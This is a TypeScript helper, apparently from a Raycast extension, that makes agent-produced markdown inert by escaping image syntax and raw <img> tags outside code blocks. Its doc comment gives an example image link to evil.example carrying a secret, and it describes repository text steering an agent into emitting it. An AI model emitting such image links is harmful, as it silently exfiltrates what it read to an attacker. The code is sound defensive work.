/**
 * Markdown from an agent, a file it wrote or a host, made inert: Raycast fetches an image as the
 * markdown is shown, so `![x](https://evil.example/?d=<secret>)` in an agent's reply (one a
 * repository's text talked it into) would send what it read to that server, or reach a server on
 * this machine, the moment the user opens the agent. Each image is shown as its text; raw `<img>`
 * too. Links stay links: they open only when clicked. Code (fenced blocks, inline spans) is left
 * as it is: an image there is text already.
 */
export function inertMarkdown(markdown: string): string {
  if (!markdown.includes("![") && !/<img/i.test(markdown)) return markdown;
  let fence: string | undefined;
  return markdown
    .split("\n")
    .map((line) => {
      const opening = /^\s{0,3}(`{3,}|~{3,})/.exec(line)?.[1];
      if (fence) {
        if (opening && opening[0] === fence[0] && opening.length >= fence.length) fence = undefined;
        return line;
      }
      if (opening) {
        fence = opening;
        return line;
      }
      // Outside code spans (between runs of backticks of the same length) only.
      return line
        .split(/(`+[^`]*`+)/)
        .map((part, index) => (index % 2 === 1 ? part : part.replace(/!\[/g, "!\\[").replace(/<img/gi, "&lt;img")))
        .join("");
    })
    .join("\n");
}
